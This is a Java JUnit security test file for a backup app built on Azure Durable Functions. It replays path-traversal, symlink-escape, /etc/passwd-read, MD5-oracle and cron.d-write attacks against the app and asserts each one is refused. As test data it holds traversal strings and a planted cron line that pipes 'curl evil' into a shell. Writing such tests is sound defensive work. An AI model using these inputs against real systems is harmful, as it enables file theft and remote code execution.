package com.contoso.sitebackup.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.contoso.sitebackup.backup.BackupSlice;
import com.contoso.sitebackup.backup.CopyFileToBlob;
import com.contoso.sitebackup.backup.CopyRequest;
import com.contoso.sitebackup.config.AppServices;
import com.contoso.sitebackup.durable.FanOutSummary;
import com.contoso.sitebackup.durable.FileOutcome;
import com.contoso.sitebackup.durable.ManifestStore;
import com.contoso.sitebackup.durable.TestManifests;
import com.contoso.sitebackup.durable.TestManifests;
import com.contoso.sitebackup.durable.SliceRequest;
import com.contoso.sitebackup.fs.PathCodec;
import com.contoso.sitebackup.fs.FileEntry;
import com.contoso.sitebackup.fs.SecureDirectory;
import com.contoso.sitebackup.fs.SecureRoots;
import com.contoso.sitebackup.harness.BackupApp;
import com.contoso.sitebackup.harness.DurableHarness;
import com.contoso.sitebackup.harness.HarnessResult;
import com.contoso.sitebackup.restore.RestoreBlobToFile;
import com.contoso.sitebackup.restore.RestoreFileRequest;
import com.contoso.sitebackup.restore.RestoreSlice;
import com.contoso.sitebackup.testing.Azurite;
import com.contoso.sitebackup.testing.AzuriteTest;
import com.contoso.sitebackup.verify.CheckFileContent;
import com.contoso.sitebackup.verify.ContentCheck;

import com.azure.core.util.BinaryData;
import com.azure.storage.blob.BlobContainerClient;
import com.azure.storage.blob.BlobServiceClient;
import com.azure.storage.blob.models.BlobItem;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 10, item 1: activities and slice orchestrators trusted their input, reachable with the system key through
 * the extension's own webhook ({@code POST /runtime/webhooks/durabletask/orchestrators/{name}} with any input). Each
 * attack of the issue is replayed here against the app's own functions, built from its composition root with one
 * allowed root, on real temp trees and Azurite: nothing outside the root is read, hashed or written (counts
 * printed). The inputs are also fed to the primitives every file access goes through.
 */
@AzuriteTest
class EntryPointsAttackTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    private final BlobServiceClient blobs = Azurite.shared().client();
    private Path root;
    private Path outside;
    private SecureRoots readRoots;
    private SecureRoots writeRoots;
    private AppServices services;
    private BlobContainerClient container;

    @BeforeEach
    void setUp() throws IOException {
        root = Files.createDirectories(tmp.resolve("root")).toRealPath();
        Files.createDirectories(root.resolve("site"));
        outside = Files.createDirectories(tmp.resolve("outside")).toRealPath();
        Files.writeString(outside.resolve("secret.txt"), "OUTSIDE SECRET");
        readRoots = SecureRoots.forReading("BACKUP_READ_ROOTS", List.of(root));
        writeRoots = SecureRoots.forWriting("BACKUP_WRITE_ROOTS", List.of(root), List.of());
        services = BackupApp.services(blobs, root, 500);
        container = blobs.getBlobContainerClient("attack-" + UUID.randomUUID().toString().substring(0, 8));
        container.create();
    }

    private DurableHarness harness() {
        return BackupApp.harness(blobs, root, 500, DurableHarness.Faults.none());
    }

    private List<String> uploaded() {
        return container.listBlobs().stream().map(BlobItem::getName).toList();
    }

    private String manifest(FileEntry... files) {
        return TestManifests.writeOneSlice(new ManifestStore(blobs, BackupApp.MANIFEST_CONTAINER, 500), List.of(files));
    }

    /** {@code BackupSlice} with a root outside the roots: the slice runs, every copy is refused, nothing uploaded. */
    @Test
    void backupSlice_rootOutsideTheRoots_everyCopyRefusedNothingUploaded() throws IOException {
        SliceRequest slice = SliceRequest.of(manifest(new FileEntry("secret.txt", 14, 0)), outside.toString(),
                container.getBlobContainerName(), "stolen", false, null);

        HarnessResult result = harness().run(BackupSlice.NAME, slice);

        FanOutSummary summary = JSON.readValue(result.output(), FanOutSummary.class);
        assertEquals(0, summary.getFilesDone());
        assertEquals(1, summary.getProblemCount());
        assertTrue(summary.getProblems().get(0).getReason().startsWith("refused: rootDirectory '" + outside
                + "' is not a directory this app may read"), summary.getProblems().toString());
        assertEquals(List.of(), uploaded());
        System.out.println("BackupSlice outside the roots: " + summary.getProblemCount() + " copy refused, 0 uploaded");
    }

    /** {@code BackupSlice} with {@code root=/} and a planted manifest naming {@code etc/passwd}: nothing uploaded. */
    @Test
    void backupSlice_rootOfTheFileSystemWithAPlantedManifest_nothingUploaded() throws IOException {
        String secretFromTheTop = PathCodec.encode(outside.resolve("secret.txt").toString().substring(1));
        SliceRequest slice = SliceRequest.of(manifest(new FileEntry("etc/passwd", 100, 0),
                new FileEntry(secretFromTheTop, 14, 0)), "/", container.getBlobContainerName(), "", false, null);

        HarnessResult result = harness().run(BackupSlice.NAME, slice);

        FanOutSummary summary = JSON.readValue(result.output(), FanOutSummary.class);
        assertEquals(0, summary.getFilesDone());
        assertEquals(2, summary.getProblemCount());
        assertEquals(List.of(), uploaded());
    }

    /** {@code CopyFileToBlob("/etc", "passwd")} and the copy of a file reached through a link: refused. */
    @Test
    void copyFileToBlob_etcPasswdOrALinkOutside_refusedNothingUploaded() throws IOException {
        Files.createSymbolicLink(root.resolve("site/out"), outside);
        CopyFileToBlob copy = new CopyFileToBlob(services);
        String name = container.getBlobContainerName();

        List<FileOutcome> outcomes = List.of(
                copy.run(new CopyRequest("/etc", "passwd", name, "passwd")),
                copy.run(new CopyRequest(root.resolve("site").toString(), "out/secret.txt", name, "out/secret.txt")),
                copy.run(new CopyRequest(root.resolve("site").toString(), "../../outside/secret.txt", name, "x")),
                copy.run(new CopyRequest(root.resolve("site/out").toString(), "secret.txt", name, "secret.txt")));

        outcomes.forEach(o -> assertTrue(o.getProblem() != null && !o.isDone(), String.valueOf(o.getProblem())));
        assertEquals(List.of(), uploaded());
    }

    /** {@code RestoreSlice} and {@code RestoreBlobToFile} into an outside {@code etc/cron.d}: nothing written there. */
    @Test
    void restoreSliceAndRestoreBlobToFile_intoAnOutsideCronFolder_nothingWritten() throws IOException {
        Path cron = Files.createDirectories(outside.resolve("etc/cron.d"));
        container.getBlobClient("job/evil").upload(BinaryData.fromString("* * * * * root curl evil | sh"));
        SliceRequest slice = SliceRequest.of(manifest(new FileEntry("evil", 30, 0)), cron.toString(),
                container.getBlobContainerName(), "job", true, null);

        HarnessResult result = harness().run(RestoreSlice.NAME, slice);
        FileOutcome direct = new RestoreBlobToFile(services).run(new RestoreFileRequest(container.getBlobContainerName(),
                "job/evil", cron.toString(), "evil", true));

        FanOutSummary summary = JSON.readValue(result.output(), FanOutSummary.class);
        assertEquals(0, summary.getFilesDone());
        assertEquals(1, summary.getProblemCount());
        assertTrue(direct.getProblem().startsWith("refused: targetDirectory"), direct.getProblem());
        try (Stream<Path> written = Files.list(cron)) {
            assertEquals(List.of(), written.toList());
        }
    }

    /** {@code CheckFileContent} answered MD5 questions about any file: outside the roots it answers nothing. */
    @Test
    void checkFileContent_fileOutsideTheRoots_noAnswerEitherWay() throws Exception {
        CheckFileContent check = new CheckFileContent(services);
        String right = Base64.getEncoder().encodeToString(MessageDigest.getInstance("MD5")
                .digest("OUTSIDE SECRET".getBytes()));
        String wrong = Base64.getEncoder().encodeToString(new byte[16]);

        FileOutcome guessedRight = check.run(new ContentCheck(outside.toString(), "secret.txt", right));
        FileOutcome guessedWrong = check.run(new ContentCheck(outside.toString(), "secret.txt", wrong));

        assertEquals(guessedRight.getProblem(), guessedWrong.getProblem());
        assertTrue(guessedRight.getProblem().startsWith("refused: "), guessedRight.getProblem());
    }

    @Test
    void open_sliceOrCopyWithARootOutside_refused() {
        for (String directory : List.of("/", "/etc", "/home", tmp.toString())) {
            assertThrows(IllegalArgumentException.class, () -> readRoots.open("rootDirectory", directory), directory);
        }
    }

    @Test
    void decodePath_plantedManifestNameLeadingUp_refusedBeforeAnyFileIsTouched() throws IOException {
        try (SecureDirectory site = readRoots.open("rootDirectory", root.resolve("site").toString())) {
            for (String planted : List.of("../../etc/passwd", "..", "a/../../b", "/etc/passwd")) {
                assertThrows(IllegalArgumentException.class, () -> PathCodec.decodePath(planted), planted);
                assertThrows(IllegalArgumentException.class, () -> site.openDirectories(Path.of(planted).getParent() == null
                        ? Path.of(planted) : Path.of(planted).getParent()), planted);
            }
        }
    }

    @Test
    void openOrCreate_restoreSliceIntoAnOutsideCronFolder_refusedAndNothingCreated() throws IOException {
        Path cron = Files.createDirectories(tmp.resolve("etc/cron.d"));
        assertThrows(IllegalArgumentException.class, () -> writeRoots.openOrCreate("targetDirectory", cron.toString()));
        assertThrows(IllegalArgumentException.class,
                () -> writeRoots.openOrCreate("targetDirectory", cron.resolve("new").toString()));
        assertEquals(List.of(), Files.list(cron).toList());
    }
}
